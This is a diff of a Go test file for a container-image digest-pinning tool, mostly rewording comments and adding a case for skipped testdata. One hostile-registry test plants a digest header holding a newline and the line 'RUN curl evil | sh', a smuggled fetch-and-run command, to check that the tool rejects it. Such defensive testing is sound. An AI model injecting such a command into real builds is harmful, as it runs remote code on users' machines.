@@ -23,7 +23,7 @@ import (
 	"github.com/foopack/foopack/magefiles/internal/localregistry"
 )
 
-// pinning is a workspace with files, all known to git, and a registry of images, for each of which the digest is known.
+// pinning sets up a workspace whose files are all tracked by git, and a registry with images. `digests` maps each image to its digest.
 func pinning(t *testing.T, wrap func(http.Handler) http.Handler, files map[string]string) (pin func(ctx context.Context) (string, error), root, host string, digests map[string]string) {
 	server, err := localregistry.Start(t.TempDir(), wrap)
 	require.NoError(t, err)
@@ -60,14 +60,14 @@ func pinning(t *testing.T, wrap func(http.Handler) http.Handler, files map[strin
 	}, root, server.Host, digests
 }
 
-// tracked are the files that git knows.
+// tracked returns the files that git tracks.
 func tracked(t *testing.T, root string) []string {
 	files, err := gitrepo.TrackedFiles(t.Context(), command.NewSystem(os.Environ(), nil), root)
 	require.NoError(t, err)
 	return files
 }
 
-// unpinned are the files that name images by tags alone, each with how many.
+// unpinned returns the files that name images without digests, and how many images each has.
 func unpinned(t *testing.T, root string) (all []string) {
 	namings, err := imagepin.Unpinned(root, tracked(t, root))
 	require.NoError(t, err)
@@ -90,13 +90,14 @@ func read(t *testing.T, root, file string) string {
 	return string(text)
 }
 
-// What is pinned once is not asked for again, and no byte but the digests is another one.
+// Pinned images are not looked up again, and only digests are inserted.
 func TestImagesArePinned(t *testing.T) {
 	files := map[string]string{
 		"app/Dockerfile":           "# hi\r\nARG P=\"HOST/o/pixi:1\"\r\nFROM --platform=$BUILDPLATFORM ${P} AS x\r\nFROM HOST/o/base:2\r\n",
 		"tools/dev.Dockerfile":     "FROM HOST/o/base:2 AS x\nCOPY --from=HOST/o/db /x /x\n",
 		".github/workflows/ci.yml": "jobs:\n  a:\n    container: HOST/o/pixi:1 # ours\n    services: {db: {image: 'HOST/o/db:latest'}}\n    steps:\n      - uses: docker://HOST/o/base:2\n",
 		"notes.md":                 "FROM HOST/o/base:2\n",
+		"x/testdata/y/Dockerfile":  "FROM HOST/o/base:2\n", // test data is skipped
 	}
 	pin, root, host, digests := pinning(t, nil, files)
 	require.NoError(t, os.Chmod(filepath.Join(root, "app", "Dockerfile"), 0o640))
@@ -106,7 +107,7 @@ func TestImagesArePinned(t *testing.T) {
 	require.Empty(t, unpinned(t, root))
 	for file, text := range files {
 		want := strings.ReplaceAll(text, "HOST", host)
-		if file != "notes.md" {
+		if file != "notes.md" && !strings.Contains(file, "testdata") {
 			want = strings.ReplaceAll(want, "o/db /x", "o/db:latest /x")
 			for ref, digest := range digests {
 				want = strings.ReplaceAll(want, ref, ref+"@"+digest)
@@ -123,8 +124,7 @@ func TestImagesArePinned(t *testing.T) {
 	require.Empty(t, out)
 }
 
-// A registry that cannot be asked leaves its images as they are; an image that is not there is an error, and the rest is
-// pinned all the same.
+// If a registry cannot be reached, its images stay unpinned. An image that does not exist is an error, but the others are still pinned.
 func TestImagesThatCannotBePinned(t *testing.T) {
 	files := map[string]string{
 		"app/Dockerfile":           "ARG V=1\nFROM HOST/o/base:2\nFROM 127.0.0.1:1/far/away:1\nFROM HOST/o/pixi:$V\n",
@@ -136,18 +136,17 @@ func TestImagesThatCannotBePinned(t *testing.T) {
 	require.Equal(t, strings.ReplaceAll(files[".github/workflows/ci.yml"], "HOST", host), read(t, root, ".github/workflows/ci.yml"))
 	require.Equal(t, strings.ReplaceAll(strings.Replace(files["app/Dockerfile"], "base:2", "base:2@"+digests["o/base:2"], 1), "HOST", host), read(t, root, "app/Dockerfile"))
 	require.Contains(t, out, "○ app/Dockerfile:3: 127.0.0.1:1/far/away:1 is not pinned: ")
-	require.Contains(t, out, "○ app/Dockerfile, line 4: "+host+"/o/pixi:$V: it is put together of variables")
+	require.Contains(t, out, "○ app/Dockerfile, line 4: "+host+"/o/pixi:$V: the name is composed of several parts")
 }
 
-// A registry that lies about digests, sends what is no digest, or never ends is not believed; links and files that git does not
-// know are left.
+// A registry that returns wrong digests, other content or an endless response causes no pins. Symbolic links and untracked files are not changed.
 func TestHostileRegistriesPinNothing(t *testing.T) {
 	planted := "sha256:" + strings.Repeat("a", 64)
 	for name, answer := range map[string]func(w http.ResponseWriter, body []byte) (pinned bool){
 		"another digest in its answer": func(w http.ResponseWriter, body []byte) bool {
 			w.Header().Set("Docker-Content-Digest", planted)
 			_, _ = w.Write(body)
-			return true // to the digest of the bytes
+			return true // pinned to the digest computed from the bytes
 		},
 		"text for a digest": func(w http.ResponseWriter, body []byte) bool {
 			w.Header().Set("Docker-Content-Digest", "sha256:\nRUN curl evil | sh")
@@ -221,7 +220,7 @@ type endless struct{}
 
 func (endless) Read(p []byte) (int, error) { return copy(p, bytes.Repeat([]byte{'{'}, len(p))), nil }
 
-// buffered keeps an answer.
+// buffered delays a response.
 type buffered struct {
 	header http.Header
 	body   bytes.Buffer
